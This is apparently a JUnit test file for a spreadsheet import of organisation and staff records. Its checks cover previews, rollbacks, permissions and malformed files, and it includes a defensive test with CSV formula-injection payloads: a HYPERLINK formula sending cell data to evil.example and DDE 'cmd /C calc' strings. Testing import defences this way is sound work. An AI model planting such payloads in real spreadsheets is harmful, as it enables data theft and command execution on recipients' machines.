package org.centrecpd.organisation.importing;

import org.centrecpd.organisation.service.Workplaces;
import org.centrecpd.support.CentreTest;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.ss.usermodel.CellStyle;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.centrecpd.base.RuleViolation;
import org.centrecpd.demo.DemoLogins;
import org.centrecpd.organisation.JobRole;
import org.centrecpd.organisation.importing.PlannedChange.Kind;
import org.centrecpd.organisation.service.ArrangementRow;
import org.centrecpd.organisation.service.CentreService;
import org.centrecpd.organisation.service.EmploymentRow;
import org.centrecpd.organisation.service.PeopleService;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

import org.springframework.data.domain.Pageable;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.security.access.AccessDeniedException;
import org.springframework.security.test.context.support.TestExecutionEvent;
import org.springframework.security.test.context.support.WithUserDetails;

/**
 * Importing the organisation and staff from spreadsheets, against the fixture files in
 * {@code src/test/resources/import}: what the preview promises, what a commit leaves behind (no test
 * transaction here: every import commits or rolls back for real), and what is refused.
 */
@CentreTest
@WithUserDetails(value = DemoLogins.ADMIN, setupBefore = TestExecutionEvent.TEST_METHOD)
class SpreadsheetImportTest {

    static final LocalDate EFFECTIVE = LocalDate.of(2026, 1, 5);

    @Autowired
    OrganisationImport organisation;
    @Autowired
    StaffImport staff;
    @Autowired
    PeopleService people;
    @Autowired
    Workplaces workplaces;
    @Autowired
    CentreService centres;
    @Autowired
    JdbcTemplate jdbc;

    final ImportFixtures f = new ImportFixtures();

    private static final java.util.function.IntConsumer NO_PROGRESS = done -> { };

    private void importOrganisation() {
        organisation.apply(f.file("organisation.csv"), "organisation.csv", EFFECTIVE, NO_PROGRESS);
    }

    private void importStaff() {
        importOrganisation();
        staff.apply(f.file("staff.csv"), "staff.csv", EFFECTIVE, false, NO_PROGRESS);
    }

    private long personId(String first) {
        return jdbc.queryForObject("select id from person where email = ?", Long.class, f.email(first));
    }

    private long centreId(String name) {
        return centres.rows(name + " " + f.s, Pageable.ofSize(1)).getFirst().id();
    }

    private long count(String sql, Object... args) {
        return jdbc.queryForObject(sql, Long.class, args);
    }

    private long audited(String action, String subject) {
        return count("select count(*) from audit_event where action = ? and subject = ? and actor = ?", action, subject,
            DemoLogins.ADMIN);
    }

    @Test
    void theOrganisationPreviewWritesNothingAndTheImportWritesWhatItShowed() {
        ImportPreview preview = organisation.preview(f.file("organisation.csv"), "organisation.csv", EFFECTIVE);

        assertThat(preview.problems()).isEmpty();
        assertThat(preview.rows()).isEqualTo(3);
        assertThat(preview.changes()).extracting(PlannedChange::row, PlannedChange::kind, PlannedChange::subject).containsExactly(
            tuple(2, Kind.CREATE, "Testshire " + f.s), tuple(2, Kind.CREATE, "Oak Trust " + f.s), tuple(2, Kind.CREATE, "North " + f.s),
            tuple(2, Kind.CREATE, "Alder Centre " + f.s), tuple(3, Kind.CREATE, "Birch Centre " + f.s),
            tuple(4, Kind.CREATE, "Elm Charity " + f.s), tuple(4, Kind.CREATE, "Cedar Centre " + f.s));
        assertThat(count("select count(*) from local_authority where name = ?", "Testshire " + f.s)).isZero();

        ImportResult result = organisation.apply(f.file("organisation.csv"), "organisation.csv", EFFECTIVE, NO_PROGRESS);

        assertThat(result.created()).isEqualTo(7);
        long alder = centreId("Alder Centre");
        assertThat(centres.history(alder)).extracting(ArrangementRow::provider, ArrangementRow::group, ArrangementRow::from)
            .containsExactly(tuple("Oak Trust " + f.s, "North " + f.s, LocalDate.of(2025, 4, 1)));
        assertThat(centres.details(alder).postcode()).isEqualTo("AB1 2CD");
        assertThat(count("select count(*) from centre where reference = ?", "EY" + f.s + "01")).isEqualTo(1);
        assertThat(audited("ORGANISATION_IMPORTED", "organisation.csv")).isGreaterThanOrEqualTo(1);
    }

    @Test
    void theSameOrganisationFileAgainChangesNothing() {
        importOrganisation();
        ImportPreview again = organisation.preview(f.file("organisation.csv"), "organisation.csv", EFFECTIVE);
        assertThat(again.problems()).isEmpty();
        assertThat(again.changes()).isEmpty();
        assertThat(again.unchanged()).isEqualTo(3);
        assertThat(again.canImport()).isFalse();
    }

    @Test
    void aCentreThatChangedProviderIsRecommissionedFromTheFilesDateAndItsPastIsKept() {
        importOrganisation();
        long alder = centreId("Alder Centre");

        ImportPreview preview = organisation.preview(f.file("organisation-recommissioned.csv"), "recommissioned.csv", EFFECTIVE);
        assertThat(preview.changes()).singleElement().satisfies(c -> {
            assertThat(c.kind()).isEqualTo(Kind.CHANGE);
            assertThat(c.row()).isEqualTo(2);
            assertThat(c.detail()).isEqualTo("Oak Trust " + f.s + ", North " + f.s + " → Elm Charity " + f.s + ", North " + f.s
                + " from 2026-01-01");
        });
        organisation.apply(f.file("organisation-recommissioned.csv"), "recommissioned.csv", EFFECTIVE, NO_PROGRESS);

        assertThat(centres.history(alder)).extracting(ArrangementRow::provider, ArrangementRow::from, ArrangementRow::until)
            .containsExactly(tuple("Elm Charity " + f.s, LocalDate.of(2026, 1, 1), null),
                tuple("Oak Trust " + f.s, LocalDate.of(2025, 4, 1), LocalDate.of(2026, 1, 1)));
        assertThat(centres.arrangementOn(alder, LocalDate.of(2025, 12, 31)).orElseThrow().provider()).isEqualTo("Oak Trust " + f.s);
        assertThat(audited("CENTRE_RECOMMISSIONED", "Alder Centre " + f.s)).isEqualTo(1);
        assertThat(organisation.preview(f.file("organisation-recommissioned.csv"), "again.csv", EFFECTIVE).changes()).isEmpty();
    }

    @Test
    void aCentreIsFoundByItsReferenceAfterARenameAndTwoCentresCannotShareOne() {
        importOrganisation();
        long alder = centreId("Alder Centre");
        var details = centres.details(alder);
        assertThat(details.reference()).isEqualTo("EY" + f.s + "01");
        centres.save(new org.centrecpd.organisation.service.CentreDetails(details.id(), details.version(), details.localAuthorityId(),
            "Alder Family Hub " + f.s, details.address(), details.postcode(), details.reference()));

        ImportPreview preview = organisation.preview(f.file("organisation.csv"), "organisation.csv", EFFECTIVE);
        assertThat(preview.changes()).singleElement().satisfies(c -> {
            assertThat(c.kind()).isEqualTo(Kind.CHANGE);
            assertThat(c.detail()).isEqualTo("name Alder Family Hub " + f.s + " → Alder Centre " + f.s);
        });

        var renamed = centres.details(alder);
        assertThatThrownBy(() -> centres.save(new org.centrecpd.organisation.service.CentreDetails(renamed.id(), renamed.version(),
                renamed.localAuthorityId(), renamed.name(), renamed.address(), renamed.postcode(), "EY" + f.s + "02")))
            .isInstanceOfSatisfying(RuleViolation.class, e -> assertThat(e.messageKey()).isEqualTo("centre.reference.taken"));
    }

    @Test
    void staffArePreviewedThenCreatedWithTheirJobsAndNoSignIn() {
        importOrganisation();
        ImportPreview preview = staff.preview(f.file("staff.csv"), "staff.csv", EFFECTIVE, false);

        assertThat(preview.problems()).isEmpty();
        assertThat(preview.count(Kind.CREATE)).isEqualTo(3);
        assertThat(preview.changes()).extracting(PlannedChange::row, PlannedChange::subject)
            .containsExactly(tuple(2, f.email("ann")), tuple(3, f.email("ben")), tuple(4, f.email("cara")));
        assertThat(count("select count(*) from person where email like ?", "%." + f.s + "@example.org")).isZero();

        ImportResult result = staff.apply(f.file("staff.csv"), "staff.csv", EFFECTIVE, false, NO_PROGRESS);

        assertThat(result).isEqualTo(new ImportResult(3, 0, 0));
        assertThat(people.employmentHistory(personId("ben"))).extracting(EmploymentRow::centre, EmploymentRow::jobRole,
            EmploymentRow::start).containsExactly(tuple("Birch Centre " + f.s, JobRole.EARLY_YEARS_PRACTITIONER, LocalDate.of(2025, 9, 1)));
        assertThat(people.employmentHistory(personId("cara"))).extracting(EmploymentRow::centre, EmploymentRow::jobRole)
            .containsExactlyInAnyOrder(tuple("Cedar Centre " + f.s, JobRole.CENTRE_MANAGER),
                tuple("Alder Centre " + f.s, JobRole.CENTRE_MANAGER), tuple("Birch Centre " + f.s, JobRole.CENTRE_MANAGER));
        // Person records with e-mail for invitations to find; no account and no password until then.
        assertThat(count("select count(*) from user_account u join person p on p.id = u.person_id where p.email like ?",
            "%." + f.s + "@example.org")).isZero();
        assertThat(audited("STAFF_IMPORTED", "staff.csv")).isGreaterThanOrEqualTo(1);

        ImportPreview again = staff.preview(f.file("staff.csv"), "staff.csv", EFFECTIVE, false);
        assertThat(again.changes()).isEmpty();
        assertThat(again.unchanged()).isEqualTo(3);
    }

    @Test
    void aPersonWhoMovedCentreMovesOnTheEffectiveDateAndKeepsTheirHistory() {
        importStaff();
        ImportPreview preview = staff.preview(f.file("staff-moved.csv"), "staff-moved.csv", EFFECTIVE, false);
        assertThat(preview.changes()).singleElement().satisfies(c -> {
            assertThat(c.kind()).isEqualTo(Kind.CHANGE);
            assertThat(c.subject()).isEqualTo(f.email("ann"));
            assertThat(c.detail()).isEqualTo("Alder Centre " + f.s + " (family-support-worker) → Birch Centre " + f.s
                + " (family-support-worker) from 2026-01-05");
        });
        assertThat(preview.unchanged()).isEqualTo(2);

        staff.apply(f.file("staff-moved.csv"), "staff-moved.csv", EFFECTIVE, false, NO_PROGRESS);

        assertThat(people.employmentHistory(personId("ann"))).extracting(EmploymentRow::centre, EmploymentRow::start,
            EmploymentRow::end).containsExactly(
            tuple("Birch Centre " + f.s, EFFECTIVE, null),
            tuple("Alder Centre " + f.s, LocalDate.of(2025, 9, 1), EFFECTIVE));
        assertThat(audited("PERSON_MOVED", f.email("ann"))).isEqualTo(1);
        assertThat(staff.preview(f.file("staff-moved.csv"), "again.csv", EFFECTIVE, false).changes()).isEmpty();
    }

    @Test
    void peopleNotInTheFileLeaveOnlyWhenTheAdminSaysSo() {
        importStaff();
        byte[] withoutBen = new String(f.file("staff.csv"), java.nio.charset.StandardCharsets.UTF_8).lines()
            .filter(l -> !l.startsWith("Ben")).reduce("", (a, b) -> a + b + "\n").getBytes(java.nio.charset.StandardCharsets.UTF_8);

        assertThat(staff.preview(withoutBen, "without-ben.csv", EFFECTIVE, false).changes()).isEmpty();
        ImportPreview leavers = staff.preview(withoutBen, "without-ben.csv", EFFECTIVE, true);
        assertThat(leavers.changes()).extracting(PlannedChange::kind, PlannedChange::subject)
            .containsExactly(tuple(Kind.END, f.email("ben")));

        ImportResult result = staff.apply(withoutBen, "without-ben.csv", EFFECTIVE, true, NO_PROGRESS);

        assertThat(result.ended()).isEqualTo(1);
        assertThat(people.employmentHistory(personId("ben"))).singleElement()
            .satisfies(e -> assertThat(e.end()).isEqualTo(EFFECTIVE));
        assertThat(count("select count(*) from person where email = ?", f.email("ben"))).isEqualTo(1); // records stay
        assertThat(audited("EMPLOYMENT_ENDED", f.email("ben"))).isEqualTo(1);
    }

    @Test
    void everyProblemIsNamedByRowAndColumnAndNothingIsWritten() {
        importOrganisation();
        ImportPreview preview = staff.preview(f.file("staff-problems.csv"), "staff-problems.csv", EFFECTIVE, false);

        assertThat(preview.problems()).extracting(ImportProblem::row, ImportProblem::column, ImportProblem::messageKey)
            .containsExactly(
                tuple(3, "Start date", "import.cell.date"),
                tuple(4, "Job role", "import.staff.jobUnknown"),
                tuple(5, "Centre", "import.centre.unknown"),
                tuple(6, "E-mail", "import.staff.emailTwice"),
                tuple(7, "Name", "import.cell.formula"),
                tuple(8, "E-mail", "import.staff.emailInvalid"),
                tuple(9, "Name", "import.cell.required"),
                tuple(10, "Job role", "import.cell.formula"));
        assertThat(preview.problems().get(3).arguments()).containsExactly(f.email("gus"), 2);
        assertThat(preview.canImport()).isFalse();

        assertThatThrownBy(() -> staff.apply(f.file("staff-problems.csv"), "staff-problems.csv", EFFECTIVE, false, NO_PROGRESS))
            .isInstanceOf(ImportRefused.class);
        assertThat(count("select count(*) from person where email like ?", "%." + f.s + "@example.org")).isZero();
    }

    @Test
    void wrongColumnsAreNamedBeforeAnyRowIsRead() {
        ImportPreview preview = staff.preview(f.file("staff-wrong-columns.csv"), "wrong.csv", EFFECTIVE, false);
        assertThat(preview.problems()).extracting(ImportProblem::row, ImportProblem::column, ImportProblem::messageKey)
            .containsExactlyInAnyOrder(
                tuple(1, "Site", "import.column.unknown"),
                tuple(1, "Centre", "import.column.missing"));
        // Other common spellings of a heading ("Email address", "Role", "Start") are understood.
    }

    @Test
    void aFailureHalfWayThroughWritesNothingAtAll() {
        importStaff();
        long ben = personId("ben");
        // Ben is due to work at Alder from next year: moving him there from an earlier day would overlap that job,
        // which only the write finds out (the preview cannot see it: it compares with today's jobs).
        workplaces.changeWorkplaces(ben, Map.of(centreId("Birch Centre"), JobRole.EARLY_YEARS_PRACTITIONER,
            centreId("Alder Centre"), JobRole.EARLY_YEARS_PRACTITIONER), JobRole.EARLY_YEARS_PRACTITIONER, LocalDate.of(2027, 1, 1));
        LocalDate day = LocalDate.of(2026, 6, 1);
        ImportPreview preview = staff.preview(f.file("staff-fails-mid-file.csv"), "fails.csv", day, false);
        assertThat(preview.problems()).isEmpty();
        assertThat(preview.count(Kind.CREATE)).isEqualTo(3);

        assertThatThrownBy(() -> staff.apply(f.file("staff-fails-mid-file.csv"), "fails.csv", day, false, NO_PROGRESS))
            .isInstanceOfSatisfying(ImportRefused.class, refused -> assertThat(refused.problems()).singleElement()
                .extracting(ImportProblem::row, ImportProblem::column, ImportProblem::messageKey)
                .containsExactly(5, "Centre", "person.employment.overlap"));

        assertThat(count("select count(*) from person where email in (?, ?, ?)", f.email("dan"), f.email("eve"), f.email("fay")))
            .isZero();
        assertThat(people.employmentHistory(ben)).filteredOn(e -> e.end() == null).extracting(EmploymentRow::centre)
            .containsExactlyInAnyOrder("Birch Centre " + f.s, "Alder Centre " + f.s);
        assertThat(count("select count(*) from audit_event where subject = 'fails.csv'")).isZero();
        // No line for the move that failed, nor for the three people whose creation rolled back.
        assertThat(audited("PERSON_MOVED", f.email("ben"))).isEqualTo(1); // the set-up's move only
    }

    @Test
    void anXlsxWithRealDatesImportsAndAFormulaCellIsRefused() {
        importOrganisation();
        byte[] good = xlsx(false);
        ImportPreview preview = staff.preview(good, "staff.xlsx", EFFECTIVE, false);
        assertThat(preview.problems()).isEmpty();
        staff.apply(good, "staff.xlsx", EFFECTIVE, false, NO_PROGRESS);
        assertThat(people.employmentHistory(personId("xena"))).singleElement()
            .satisfies(e -> assertThat(e.start()).isEqualTo(LocalDate.of(2025, 11, 3)));

        ImportPreview formula = staff.preview(xlsx(true), "formula.xlsx", EFFECTIVE, false);
        assertThat(formula.problems()).extracting(ImportProblem::row, ImportProblem::column, ImportProblem::messageKey)
            .containsExactly(tuple(2, "Name", "import.cell.formula"));
        assertThat(formula.problems().getFirst().arguments().getFirst().toString()).startsWith("=HYPERLINK(");
    }

    private byte[] xlsx(boolean withFormula) {
        try (XSSFWorkbook workbook = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            Sheet sheet = workbook.createSheet("Staff");
            Row header = sheet.createRow(0);
            String[] headings = {"Name", "E-mail", "Job role", "Centre", "Start date"};
            for (int i = 0; i < headings.length; i++) {
                header.createCell(i).setCellValue(headings[i]);
            }
            Row row = sheet.createRow(1);
            if (withFormula) {
                row.createCell(0).setCellFormula("HYPERLINK(\"http://evil.example\",\"Xena\")");
            } else {
                row.createCell(0).setCellValue("Xena Yew");
            }
            row.createCell(1).setCellValue(f.email("xena"));
            row.createCell(2).setCellValue("Midwife");
            row.createCell(3).setCellValue("EY" + f.s + "01");
            CellStyle date = workbook.createCellStyle();
            date.setDataFormat(workbook.getCreationHelper().createDataFormat().getFormat("dd/mm/yyyy"));
            var start = row.createCell(4);
            start.setCellValue(LocalDate.of(2025, 11, 3));
            start.setCellStyle(date);
            workbook.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    @Test
    void filesThatAreNotSpreadsheetsAreRefusedWithAClearReason() {
        Random random = new Random(17);
        byte[] noise = new byte[1024 * 1024];
        random.nextBytes(noise);
        assertRefused(noise, "import.file.notSpreadsheet");
        byte[] fifty = new byte[50 * 1024 * 1024];
        random.nextBytes(fifty);
        assertRefused(fifty, "import.file.tooBig");
        assertRefused(new byte[0], "import.file.empty");
        assertRefused(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, 0, 0, 0, 0}, "import.file.oldExcel");
        assertRefused(zipThatIsNotAWorkbook(), "import.file.notSpreadsheet");
        assertRefused("Name,E-mail\n\"Ann,ann@example.org\n".getBytes(), "import.file.unclosedQuote");
    }

    private void assertRefused(byte[] file, String key) {
        assertThatThrownBy(() -> staff.preview(file, "x", EFFECTIVE, false))
            .isInstanceOfSatisfying(RuleViolation.class, e -> assertThat(e.messageKey()).isEqualTo(key));
        assertThatThrownBy(() -> staff.apply(file, "x", EFFECTIVE, false, NO_PROGRESS))
            .isInstanceOfSatisfying(RuleViolation.class, e -> assertThat(e.messageKey()).isEqualTo(key));
    }

    private static byte[] zipThatIsNotAWorkbook() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("hello.txt"));
            zip.write("not a workbook".getBytes());
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /**
     * The hostile spreadsheet corpus (issue 34 §5): each answered with a message naming the problem, the rows
     * that are fine still previewed (nothing of the file is lost), and the next import still works.
     */
    @Test
    void hostileSpreadsheetsAreAnsweredClearlyAndTheGoodRowsAreKept() {
        importOrganisation();
        String header = "Name,E-mail,Job role,Centre,Start date\n";
        String good = "Ann Alder," + f.email("ann") + ",Family support worker,EY" + f.s + "01,01/09/2025\n";
        StringBuilder table = new StringBuilder(String.format("%-36s %-8s %-30s %-9s %-12s%n", "input kind", "payloads", "clear message",
            "server up", "nothing lost"));

        List<String> injections = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1", "\t=1+1");
        StringBuilder hostile = new StringBuilder(header).append(good);
        for (int i = 0; i < injections.size(); i++) {
            hostile.append('"').append(injections.get(i).replace("\"", "\"\"")).append("\",").append(f.email("f" + i))
                .append(",Midwife,EY").append(f.s).append("01,01/09/2025\n");
        }
        ImportPreview formulas = staff.preview(hostile.toString().getBytes(StandardCharsets.UTF_8), "formulas.csv", EFFECTIVE, false);
        assertThat(formulas.problems()).extracting(ImportProblem::row, ImportProblem::messageKey).containsExactly(
            tuple(3, "import.cell.formula"), tuple(4, "import.cell.formula"), tuple(5, "import.cell.formula"), tuple(6, "import.cell.formula"),
            tuple(7, "import.cell.formula"), tuple(8, "import.cell.formula"));
        assertThat(formulas.changes()).extracting(PlannedChange::subject).anyMatch(s -> s.contains(f.email("ann")));
        row(table, "spreadsheet: formula injection", injections.size(), "import.cell.formula", true);

        StringBuilder many = new StringBuilder(header);
        for (int i = 0; i < 100_000; i++) {
            many.append("Person ").append(i).append(",p").append(i).append('.').append(f.s).append("@example.org,Midwife,EY").append(f.s)
                .append("01,01/09/2025\n");
        }
        long started = System.nanoTime();
        assertRefused(many.toString().getBytes(StandardCharsets.UTF_8), "import.file.tooManyRows");
        System.out.printf("100 000 rows refused in %d ms (limit %d rows)%n", (System.nanoTime() - started) / 1_000_000, Spreadsheet.MAX_ROWS);
        row(table, "spreadsheet: 100 000 rows", 1, "import.file.tooManyRows", true);

        byte[] workbook = xlsx(false);
        for (byte[] broken : List.of(java.util.Arrays.copyOf(workbook, workbook.length / 2), java.util.Arrays.copyOf(workbook, 40))) {
            assertThatThrownBy(() -> staff.preview(broken, "broken.xlsx", EFFECTIVE, false)).as("a malformed XLSX is refused with a reason")
                .isInstanceOfSatisfying(RuleViolation.class, refused -> assertThat(
                    java.util.ResourceBundle.getBundle("vaadin-i18n.translations").containsKey(refused.messageKey())).isTrue());
        }
        row(table, "spreadsheet: malformed XLSX", 2, "import.file.*", true);

        String zoe = header + "Zoë Brontë," + f.email("zoe") + ",Midwife,EY" + f.s + "01,01/09/2025\n";
        String sian = header + "Siân Ó Brádaigh," + f.email("sian") + ",Midwife,EY" + f.s + "01,01/09/2025\n";
        staff.apply(zoe.getBytes(java.nio.charset.Charset.forName("windows-1252")), "zoe.csv", EFFECTIVE, false, NO_PROGRESS);
        staff.apply(("\uFEFF" + sian).getBytes(StandardCharsets.UTF_8), "sian.csv", EFFECTIVE, false, NO_PROGRESS);
        assertThat(jdbc.queryForObject("select full_name from person where email = ?", String.class, f.email("zoe"))).isEqualTo("Zoë Brontë");
        assertThat(jdbc.queryForObject("select full_name from person where email = ?", String.class, f.email("sian")))
            .isEqualTo("Siân Ó Brádaigh");
        row(table, "spreadsheet: CSV in Windows-1252, with BOM", 2, "read as written", true);

        // The server is up: the good file imports after all of that.
        staff.apply(f.file("staff.csv"), "staff.csv", EFFECTIVE, false, NO_PROGRESS);
        assertThat(personId("ann")).isPositive();
        System.out.println("\nHostile spreadsheets (staff import)\n" + table);
    }

    private static void row(StringBuilder table, String kind, int payloads, String message, boolean kept) {
        table.append(String.format("%-36s %-8d %-30.30s %-9s %-12s%n", kind, payloads, "yes: " + message, "yes", kept ? "yes" : "NO"));
    }

    @Test
    @WithUserDetails(value = DemoLogins.MANAGER, setupBefore = TestExecutionEvent.TEST_METHOD)
    void onlyAdminsImport() {
        assertThatThrownBy(() -> staff.preview(f.file("staff.csv"), "staff.csv", EFFECTIVE, false))
            .isInstanceOf(AccessDeniedException.class);
        assertThatThrownBy(() -> organisation.apply(f.file("organisation.csv"), "o.csv", EFFECTIVE, NO_PROGRESS))
            .isInstanceOf(AccessDeniedException.class);
    }

    @Test
    void theTemplatesHaveTheColumnsTheImportExpectsAndAnExampleRow() {
        assertThat(ImportFiles.staffTemplate().headers())
            .containsExactly("Name", "E-mail", "Job role", "Centre", "Start date", "Manages centres");
        assertThat(ImportFiles.staffTemplate().rows()).hasSize(1);
        assertThat(ImportFiles.organisationTemplate().headers())
            .containsExactly("Local authority", "Provider", "Group", "Centre", "Reference", "Address", "Postcode", "From");
        assertThat(StaffRows.jobRole("Family support worker")).isEqualTo(JobRole.FAMILY_SUPPORT_WORKER);
        assertThat(StaffRows.jobRole("FAMILY_SUPPORT_WORKER")).isEqualTo(JobRole.FAMILY_SUPPORT_WORKER);
    }
}
